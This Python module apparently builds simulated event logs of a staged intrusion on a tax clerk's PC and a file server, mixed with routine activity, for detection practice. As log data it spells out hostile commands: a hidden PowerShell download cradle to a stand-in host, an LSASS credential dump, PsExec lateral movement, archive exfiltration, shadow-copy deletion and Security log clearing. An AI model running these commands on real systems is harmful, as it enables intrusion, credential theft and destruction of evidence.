"""The incident: what the tax clerk's PC and the file server logged, with their ordinary work."""

import base64
from datetime import timedelta

from night.events import (
    IMPLANT,
    OFFICE,
    POWERSHELL,
    SECURITY,
    START,
    SYSMON,
    SYSTEM,
    SYSTEM32,
    at,
    connected,
    event,
    process_audit,
    started,
)


def encoded(script):
    """Return a PowerShell -EncodedCommand argument."""
    return base64.b64encode(script.encode("utf-16le")).decode()


def clerk_pc():
    """Yield what happened on the tax clerk's PC, and its ordinary work."""
    pc, user = "PC-ZEI-014", "t-kagawa"
    explorer = "C:\\Windows\\explorer.exe"
    yield started(at("17:31"), pc, user, OFFICE + "OUTLOOK.EXE", "OUTLOOK.EXE", explorer)
    attachment = "C:\\Users\\t-kagawa\\AppData\\Local\\Temp\\償却資産申告の件.xlsm"
    opened = f'EXCEL.EXE "{attachment}"'
    yield started(at("17:42"), pc, user, OFFICE + "EXCEL.EXE", opened, OFFICE + "OUTLOOK.EXE")
    script = "IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.23/u.txt')"
    fetch = f"powershell.exe -nop -w hidden -enc {encoded(script)}"
    yield started(at("17:43", 10), pc, user, POWERSHELL, fetch, OFFICE + "EXCEL.EXE", opened)
    yield connected(at("17:43", 15), pc, user, POWERSHELL, "192.168.20.14", "198.51.100.23", 80)
    yield event(at("17:44", 2), pc, SYSMON, 11, Image=POWERSHELL, TargetFilename=IMPLANT)
    task = f"schtasks.exe /Create /SC ONLOGON /TN WinUpd /TR {IMPLANT} /F"
    yield started(at("17:44", 30), pc, user, SYSTEM32 + "schtasks.exe", task, POWERSHELL)
    yield started(at("17:45"), pc, user, IMPLANT, IMPLANT, POWERSHELL)
    for call in range(60):
        moment = at("17:46") + timedelta(minutes=7 * call, seconds=call * 13 % 50)
        yield connected(moment, pc, user, IMPLANT, "192.168.20.14", "203.0.113.77", 4444)
    for minute, command in ((3, "whoami /all"), (4, "net group /domain"), (6, "ipconfig /all")):
        tool = SYSTEM32 + command.split()[0] + ".exe"
        yield started(at("21:50") + timedelta(minutes=minute), pc, user, tool, command, IMPLANT)
    dump = "rundll32.exe C:\\Windows\\System32\\comsvcs.dll, MiniDump 712 C:\\PerfLogs\\s.bin full"
    yield started(at("22:10"), pc, user, SYSTEM32 + "rundll32.exe", dump, IMPLANT)
    yield event(
        at("22:09", 40), pc, SYSMON, 10, SourceImage=IMPLANT, GrantedAccess="0x1410",
        TargetImage=SYSTEM32 + "lsass.exe", SourceUser=f"MINATONO\\{user}",
    )


def file_server():
    """Yield what the file server logged: night work, distribution, and the intruder."""
    host, admin = "SV-FILE01", "adm-ono"
    for number in range(120):
        moment = START + timedelta(minutes=number * 5)
        yield event(
            moment, host, SECURITY, 5145, SubjectUserName="k-mori", IpAddress="192.168.20.20",
            ShareName="\\\\*\\kouhou", RelativeTargetName=f"2026\\原稿{number:03}.docx",
            AccessMask="0x1",
        )
    backup = "wbadmin.exe start backup -backupTarget:\\\\sv-bk01\\file01 -include:D: -quiet"
    yield process_audit(at("01:00"), host, "svc-backup", SYSTEM32 + "wbadmin.exe", backup)
    look = "vssadmin.exe list shadows"
    yield process_audit(at("01:05"), host, "svc-backup", SYSTEM32 + "vssadmin.exe", look)
    yield event(
        at("23:31"), host, SECURITY, 4624, TargetUserName=admin, TargetDomainName="MINATONO",
        LogonType="3", IpAddress="192.168.20.14", WorkstationName="PC-ZEI-014",
    )
    for second, name in ((8, "Users\\Public\\upd.exe"), (15, "PSEXESVC.exe")):
        yield event(
            at("23:31", second), host, SECURITY, 5145, SubjectUserName=admin,
            SubjectDomainName="MINATONO", IpAddress="192.168.20.14", AccessMask="0x12019f",
            ShareName="\\\\*\\C$" if "Users" in name else "\\\\*\\ADMIN$", RelativeTargetName=name,
        )
    yield event(
        at("23:31", 30), host, SYSTEM, 7045, ServiceName="WinUpdSvc", StartType="auto start",
        ImagePath="C:\\Users\\Public\\upd.exe", ServiceType="user mode service",
        AccountName="LocalSystem",
    )
    packer = "C:\\Users\\Public\\7z.exe"
    pack = "7z.exe a -pKmt77 -mhe=on C:\\Users\\Public\\j.7z \\\\SV-FILE01\\juumin\\*"
    yield process_audit(at("00:12"), host, admin, packer, pack)
    send = "svhost.exe copy C:\\Users\\Public\\j.7z box:in --transfers 8 --config c.conf"
    yield process_audit(at("00:40"), host, admin, "C:\\Users\\Public\\svhost.exe", send)
    for second in (0, 20, 45):
        wipe = "vssadmin.exe Delete Shadows /All /Quiet"
        yield process_audit(at("02:55", second), host, admin, SYSTEM32 + "vssadmin.exe", wipe)
    clear = "wevtutil.exe cl Security"
    yield process_audit(at("02:57"), host, admin, SYSTEM32 + "wevtutil.exe", clear)
    cleared = ("Security", "Microsoft-Windows-Eventlog")
    yield event(at("02:57", 1), host, cleared, 1102, SubjectUserName=admin)
